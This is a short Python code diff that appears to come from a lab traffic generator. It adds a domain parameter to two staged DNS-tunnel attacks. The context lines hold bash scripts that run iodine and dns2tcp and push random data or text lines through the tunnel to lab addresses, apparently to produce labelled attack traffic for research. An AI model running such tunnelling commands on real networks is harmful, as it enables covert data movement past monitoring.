@@ -75,7 +75,7 @@ class Resolver:
                   f'for i in $(seq {stage.pick(12, 9)}); do head -c {stage.pick(700, 400)} /dev/urandom >/dev/udp/172.30.9.1/9; sleep {stage.pick(1, 2)}; done; '
                   f'sleep {stage.pick(15, 25)}; kill %1; wait')
         stage.attack('victim0', ('bash', '-c', script), 'dns-tunnel', stage.pick('TXT', 'CNAME'), 17, net.address(101), net.address(53),
-                     statuses=range(256), ports=[53], tool='iodine', via=net.address(53))
+                     statuses=range(256), ports=[53], tool='iodine', via=net.address(53), domain=domain)
 
     def dns2tcp(self):
         """A terminal through a TCP tunnel."""
@@ -92,7 +92,7 @@ class Resolver:
         script = (f'dns2tcpc -c -f {client} -r echo -l 7070 -T {stage.pick("TXT", "KEY")} -z {domain} {net.address(53)} & sleep 4; exec 3<>/dev/tcp/127.0.0.1/7070; '
                   f'for i in $(seq {stage.pick(40, 25)}); do echo "$i $RANDOM {line}" >&3; sleep {stage.pick("0.8", "2")}; done; kill %1; wait')
         stage.attack('victim1', ('bash', '-c', script), 'dns-tunnel', stage.pick('TXT', 'KEY'), 17, net.address(102), net.address(53),
-                     statuses=range(256), ports=[53], tool='dns2tcp', via=net.address(53))
+                     statuses=range(256), ports=[53], tool='dns2tcp', via=net.address(53), domain=domain)
 
 
 def names(stage, path):
